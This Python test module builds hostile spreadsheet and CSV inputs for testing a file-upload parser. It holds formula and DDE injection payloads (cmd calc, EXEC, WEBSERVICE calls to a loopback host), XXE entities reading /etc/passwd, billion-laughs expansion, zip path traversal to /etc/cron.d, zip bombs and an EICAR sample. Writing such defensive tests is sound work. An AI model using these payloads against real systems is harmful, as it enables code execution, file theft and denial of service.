"""Spreadsheets that are none, burst, or would run something: name → how it is made."""

import io
import zipfile
from collections.abc import Callable
from functools import cache, partial

import openpyxl

from mentoring.tests.hostile.pictures import EICAR, HEADS, HIDDEN, image, noise, zipped

HEADINGS = b"Name,DOB,Email,Area\n"
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://127.0.0.1:1/?"&A1,"x")',
    '=WEBSERVICE("http://127.0.0.1:1/")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://127.0.0.1:1/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '="x"&1',
    "%0A=1+1",
    '=EXEC("id")',
    '=CALL("Shell32")',
)
SHEET = "xl/worksheets/sheet1.xml"
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ENTITIES = {
    "entities that grow": f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><worksheet {NS}>&l9;</worksheet>',
    "an entity from a file": f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet {NS}>&a;</worksheet>',
    "an entity from the net": f'<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd"><worksheet {NS}/>',
    "parts from a file": '<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/passwd"/></x>',
}


@cache
def good() -> bytes:
    book = openpyxl.Workbook()
    for row in (["Name", "DOB", "Email"], ["Ann Reid", "1/2/1990", "ann@new.example"]):
        book.active.append(row)
    book.save(kept := io.BytesIO())
    return kept.getvalue()


def workbook(changed: dict[str, str | bytes]) -> bytes:
    """A workbook of one person in which some parts are others."""
    with zipfile.ZipFile(kept := io.BytesIO(), "w", zipfile.ZIP_DEFLATED) as book:
        with zipfile.ZipFile(io.BytesIO(good())) as whole:
            for name in whole.namelist():
                book.writestr(name, changed.pop(name, whole.read(name)))
        for name, data in changed.items():
            book.writestr(name, data)
    return kept.getvalue()


def rows(body: str) -> bytes:
    return workbook({SHEET: f"<worksheet {NS}><sheetData>{body}</sheetData></worksheet>"})


def words_at(place: str, words: str = "Name", kind: str = "inlineStr") -> bytes:
    return rows(f'<row r="1"><c r="{place}" t="{kind}"><is><t>{words}</t></is><v>{words}</v></c></row>')


def lying(data: bytes, place: int, said: bytes) -> bytes:
    """A folder whose list of contents says something else than what lies in it."""
    at = data.rindex(b"PK\x01\x02") + place
    return data[:at] + said + data[at + len(said) :]


def many_sheets() -> bytes:
    book = openpyxl.Workbook()
    for _ in range(40):
        book.create_sheet()
    book.save(kept := io.BytesIO())
    return kept.getvalue()


TEXTS = {
    "a page": b"<table><tr><td>Name<td>DOB<tr><td>" + HIDDEN + b"</table>",
    "SYLK": b'ID;PWXL;N;E\nC;Y1;X1;K"Name";E=1+1\nE\n',
    "XML of 2003": b"<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Workbook/>",
    "a virus": EICAR,
    "marks": b"\xef\xbb\xbf",
    "a quotation mark without end": HEADINGS + b'"Ann,' + b"x\n" * 90_000,
    "delimiters alone": b",;\t|" * 100_000,
    "lines alone": b"\n" * 400_000,
    "columns without end": b"Name," * 90_000,
    "rows without end": HEADINGS + b"Ann,,,\n" * 90_000,
    "a cell without end": HEADINGS + b"x" * 900_000,
    "half of a pair": b"\xff\xfeN\x00,\x00\x00\xd8\n\x00",
    "bytes of no language": HEADINGS + bytes(range(128, 256)),
    "UTF-16 cut off": "Name,DOB\nÄ,1".encode("utf-16")[:-1],
    "UTF-32": "Name,DOB\n".encode("utf-32"),
    "noughts": bytes(900),
    "controls": HEADINGS + bytes(range(1, 32)) + b",1,2\n",
    "a heading that runs": b"=1+1,@SUM(1),+1\nAnn,1,2\n",
    "quotation marks alone": b'"' * 300_001,
    "sep": b"sep=;\nName;DOB\nAnn;=1+1\n",
}
PARTS = {
    "a macro": {"xl/vbaProject.bin": HIDDEN},
    "an old macro": {"xl/macrosheets/sheet1.xml": f"<x {NS}>=EXEC()</x>"},
    "a thing in it": {"xl/embeddings/oleObject1.bin": EICAR},
    "ways out": {"../../../etc/cron.d/x": HIDDEN, "/etc/x": HIDDEN},
    "a link elsewhere": {"xl/externalLinks/externalLink1.xml": f"<externalLink {NS}/>"},
    "a picture": {"xl/media/a.jpg": image()},
    "a query": {"xl/connections.xml": f"<connections {NS}><connection/></connections>"},
    "no sheet": {SHEET: ""},
    "broken styles": {"xl/styles.xml": "<x>" * 9_000},
    "deep styles": {"xl/styles.xml": "<x>" * 20_000 + "</x>" * 20_000},
    "no kinds": {"[Content_Types].xml": "<x/>"},
    "no relations": {"_rels/.rels": "<x/>", "xl/_rels/workbook.xml.rels": "<x/>"},
    "very many parts": {f"xl/x{number}.xml": "<x/>" for number in range(3_000)},
    "a part that bursts": {"xl/x.bin": bytes(85_000_000)},
    "a sheet that bursts": {SHEET: f"<worksheet {NS}><sheetData>{'<row/>' * 900_000}</sheetData></worksheet>"},
}


def sheets() -> dict[str, Callable[[], bytes]]:
    made = {f"text with {what}": lambda data=data: data for what, data in TEXTS.items()}
    made |= {
        f"text with {words!r}": lambda w=words: HEADINGS + f'"{w}",1/2/1990,"{w}","{w}"\n'.encode()
        for words in FORMULAS
    }
    made |= {f"workbook with {what}": lambda parts=parts: workbook(dict(parts)) for what, parts in PARTS.items()}
    made |= {f"workbook with {what}": lambda data=data: workbook({SHEET: data}) for what, data in ENTITIES.items()}
    made |= {f"workbook in UTF-16 with {what}": lambda data=data: workbook({SHEET: data.encode("utf-16")})
             for what, data in ENTITIES.items()}  # fmt: skip
    made |= {
        f"workbook with words at {place}": partial(words_at, place)
        for place in ("XFD1048576", "A0", "ZZZZZ9", "-1", "A99999999999")
    }
    made |= {f"workbook with a {kind} of {words[:9]!r}": partial(words_at, "A1", words, kind)
             for kind, words in (("s", "999999"), ("s", "-1"), ("n", "1e999"), ("n", "x"), ("d", "9999-99-99"),
    ("b", "7"), ("e", "#REF!"),
                                 ("str", "x" * 90_000), ("zz", "1"))}  # fmt: skip
    made |= {f"{name} that calls itself a list": lambda head=head: head + HIDDEN for name, head in HEADS.items()}
    return made | {
        "workbook of many sheets": many_sheets,
        "workbook cut off": lambda: good()[:900],
        "workbook that lies about its size": lambda: lying(good(), 24, b"\x00\x00\x00\x00"),
        "workbook that lies about its sum": lambda: lying(good(), 16, b"abcd"),
        "workbook with a password": lambda: lying(good(), 8, b"\x01\x00"),
        "workbook packed as nobody packs": lambda: lying(good(), 10, b"\x63\x00"),
        "document": partial(zipped, "[Content_Types].xml", "word/document.xml"),
        "OpenDocument": partial(zipped, "mimetype", "content.xml"),
        "folder that bursts": partial(zipped, "xl/a.xml", "xl/b.xml", size=50_000_000),
        "old workbook": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + HIDDEN,
        "noise": partial(noise, 7),
        "too heavy": lambda: HEADINGS + b"Ann,,,\n" * 1_600_000,
    }
